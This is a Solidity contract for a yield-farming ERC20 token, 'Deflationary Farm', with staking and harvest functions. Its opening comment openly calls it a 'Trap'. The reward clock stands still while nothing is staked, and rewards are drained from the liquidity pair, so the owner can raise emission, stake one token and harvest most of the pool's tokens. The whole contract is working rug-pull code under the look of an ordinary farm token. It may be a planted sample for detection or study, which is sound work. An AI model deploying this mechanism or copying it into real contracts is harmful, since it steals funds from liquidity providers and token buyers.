// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EPair, IEPair} from "./Pair.sol";

// Trap: a MasterChef inside the token that pays its stakers out of the pool, at a bounded rate; its clock stands while nobody stakes, and so pays the first one for all weeks since the launch. Sprung by: owner.setEmission(max), stake(1 token), harvest(): most of the pool's tokens are the owner's.
contract EFarm is ERC20, Ownable {
    address private immutable _pair;
    uint256 public emissionPerSecond;
    uint256 public lastUpdate;
    uint256 public accPerShare;
    uint256 public totalStaked;
    mapping(address => uint256) public staked;
    mapping(address => uint256) public rewardDebt;

    event Harvest(address indexed user, uint256 amount);

    constructor() ERC20("Deflationary Farm", "DFARM") Ownable(msg.sender) {
        _pair = EPair.predict(address(this));
        lastUpdate = block.timestamp;
        _mint(msg.sender, 1_000_000_000 ether);
    }

    /// At most what would take the pool a month.
    function setEmission(uint256 perSecond) external onlyOwner {
        require(perSecond <= totalSupply() / 30 days, "too fast");
        updatePool();
        emissionPerSecond = perSecond;
    }

    function updatePool() public {
        if (totalStaked == 0) return;
        uint256 reward = (block.timestamp - lastUpdate) * emissionPerSecond;
        lastUpdate = block.timestamp;
        uint256 most = (balanceOf(_pair) * 95) / 100;
        if (reward > most) reward = most;
        if (reward == 0) return;
        _transfer(_pair, address(this), reward);
        IEPair(_pair).sync();
        accPerShare += (reward * 1e12) / totalStaked;
    }

    function stake(uint256 amount) external {
        harvest();
        _transfer(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        totalStaked += amount;
        rewardDebt[msg.sender] = (staked[msg.sender] * accPerShare) / 1e12;
    }

    function unstake(uint256 amount) external {
        harvest();
        staked[msg.sender] -= amount;
        totalStaked -= amount;
        rewardDebt[msg.sender] = (staked[msg.sender] * accPerShare) / 1e12;
        _transfer(address(this), msg.sender, amount);
    }

    function harvest() public {
        updatePool();
        uint256 all = (staked[msg.sender] * accPerShare) / 1e12;
        uint256 pending = all - rewardDebt[msg.sender];
        rewardDebt[msg.sender] = all;
        if (pending > 0) {
            _transfer(address(this), msg.sender, pending);
            emit Harvest(msg.sender, pending);
        }
    }
}
